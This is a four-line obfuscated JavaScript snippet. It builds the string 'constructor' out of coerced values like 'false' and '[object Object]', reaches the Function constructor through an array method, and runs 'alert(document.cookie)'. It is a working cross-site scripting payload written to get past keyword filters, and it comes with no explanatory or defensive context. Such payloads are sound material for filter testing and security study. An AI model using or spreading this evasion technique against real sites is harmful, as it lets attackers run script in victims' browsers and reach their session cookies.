const f = ![] + [], t = !![] + [], u = [][[]] + [];
const o = {} + '';
const c = o[5] + o[1] + (u[1]) + f[3] + t[0] + t[1] + t[2] + o[5] + t[0] + o[1] + t[1];
[]['at'][c]('alert(document.cookie)')();
